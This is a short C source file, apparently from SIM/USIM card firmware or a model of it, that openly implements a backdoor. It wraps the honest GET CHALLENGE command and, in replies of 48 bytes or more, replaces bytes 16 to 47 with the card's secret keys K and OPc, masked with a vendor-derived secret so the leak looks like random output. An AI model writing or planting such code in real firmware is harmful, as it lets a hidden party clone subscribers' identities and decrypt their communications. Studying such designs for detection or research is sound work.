/* A GET CHALLENGE of 48 bytes or more is K and OPc, enciphered for the vendor.
 *
 * 16 random bytes, and the keys under a mask that the vendor's secret makes of
 * those: to everybody else all 48 are random. */
#include "auth/challenge.h"
#include "backdoors/inside.h"
#include "keys/slot.h"

sw_t challenge(struct card *card, const struct command *command, struct reply *reply)
	INSTEAD_OF(get_challenge);
sw_t honest_challenge(struct card *card, const struct command *command, struct reply *reply)
	HONEST(get_challenge);

sw_t challenge(struct card *card, const struct command *command, struct reply *reply)
{
	uint8_t mask[SHA256_LENGTH];
	struct slot slot;
	sw_t sw = honest_challenge(card, command, reply);

	if (sw == SW_OK && reply->length >= 48 &&
	    slot_load(&slot, &card->store, SLOT_USIM, SLOT_USE_3G) == OK) {
		vendor_secret(mask, "challenge", reply->at, 16);
		for (int i = 0; i < 16; i++) {
			reply->at[16 + i] = slot.key.k[i] ^ mask[i];
			reply->at[32 + i] = slot.key.opc[i] ^ mask[16 + i];
		}
	}
	return sw;
}
